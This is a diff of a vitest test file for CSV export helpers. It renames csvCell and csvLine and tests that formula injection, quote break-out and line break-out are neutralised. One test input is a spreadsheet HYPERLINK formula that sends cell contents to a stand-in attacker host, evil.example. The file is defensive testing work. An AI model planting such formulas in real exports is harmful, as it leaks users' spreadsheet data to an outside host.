@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { csvCell, csvLine } from './csv.ts'
+import { formatCsvCell, formatCsvLine } from './csv.ts'
 
 test.each([
   '=HYPERLINK("https://evil.example?"&A1,"open")',
@@ -11,19 +11,21 @@ test.each([
   '\r=1',
   '\n=1',
 ])('%j is text, and no formula', (attack) => {
-  const cell = csvCell(attack)
+  const cell = formatCsvCell(attack)
   expect(cell.replace(/^"/, '').startsWith("'")).toBe(true)
 })
 
 test('a cell breaks out of neither its quotes nor its line', () => {
-  expect(csvLine(['a,b', 'say "hi"', 'two\r\nlines', 'plain'])).toBe('"a,b","say ""hi""","two\r\nlines",plain\r\n')
-  expect(csvCell('x","=1+1')).toBe('"x"",""=1+1"')
+  expect(formatCsvLine(['a,b', 'say "hi"', 'two\r\nlines', 'plain'])).toBe(
+    '"a,b","say ""hi""","two\r\nlines",plain\r\n',
+  )
+  expect(formatCsvCell('x","=1+1')).toBe('"x"",""=1+1"')
 })
 
 test('a number stays a number, also below zero', () => {
-  expect(csvLine([-1.25, 0, 12.3456])).toBe('-1.25,0,12.3456\r\n')
+  expect(formatCsvLine([-1.25, 0, 12.3456])).toBe('-1.25,0,12.3456\r\n')
 })
 
 test('what begins with an apostrophe can be told from what got one', () => {
-  expect([csvCell("'=1"), csvCell('=1')]).toEqual(["''=1", "'=1"])
+  expect([formatCsvCell("'=1"), formatCsvCell('=1')]).toEqual(["''=1", "'=1"])
 })
